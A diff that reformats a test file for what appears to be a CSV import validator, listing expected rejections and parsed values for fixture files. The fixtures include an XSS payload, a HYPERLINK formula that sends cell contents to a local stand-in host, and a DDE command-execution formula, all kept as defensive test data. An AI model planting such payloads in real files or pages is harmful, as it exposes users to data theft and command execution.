@@ -36,7 +36,9 @@ REJECTED = {
     "totals_row.csv": [(5, "no time of contact")],
     "shifted_row_empty_last.csv": [(5, "7 fields where the header has 6")],
     "nul_byte.csv": [(5, "a NUL byte in the text")],
-    "mixed_date_formats.csv": [(4, "occurred_at looks like epoch seconds or milliseconds; declare that format if it is one")],
+    "mixed_date_formats.csv": [
+        (4, "occurred_at looks like epoch seconds or milliseconds; declare that format if it is one")
+    ],
     "impossible_dates.csv": [
         (2, "occurred_at is no such date, or not in the format iso"),
         (3, "occurred_at is a placeholder, not a time"),
@@ -83,7 +85,9 @@ VALUES: dict[str, dict[str, list[Any]]] = {
     "null_tokens.csv": {"channel": [None], "cost": [None]},
     "rtl_emoji.csv": {"channel": ["bew"], "activity": ["🙂 login"]},
     "xss.csv": {"channel": ["<img src=x onerror=alert(1)>", "![x](http://127.0.0.1:9/p.png)"]},
-    "formula_injection.csv": {"activity": ['=HYPERLINK("http://127.0.0.1:9/?x="&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "-2+3"]},
+    "formula_injection.csv": {
+        "activity": ['=HYPERLINK("http://127.0.0.1:9/?x="&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "-2+3"]
+    },
     "totals_row.csv": {"cost": [12.5, 0.1, 3.0]},
 }
 
